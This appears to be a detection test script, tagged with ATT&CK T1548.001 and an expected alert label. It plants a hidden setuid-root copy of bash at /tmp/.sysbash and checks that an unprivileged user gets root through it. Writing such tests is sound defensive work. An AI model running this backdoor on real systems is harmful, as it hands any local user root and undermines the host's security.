#!/bin/bash
# Leave a setuid-root copy of bash in /tmp: anyone who runs it with -p is root.
# technique: T1548.001
# expect: setuid-setgid-bit
set -eu
cp /bin/bash /tmp/.sysbash
chmod 4755 /tmp/.sysbash
setpriv --reuid=65534 --regid=65534 --clear-groups /tmp/.sysbash -p -c 'id -u' || true
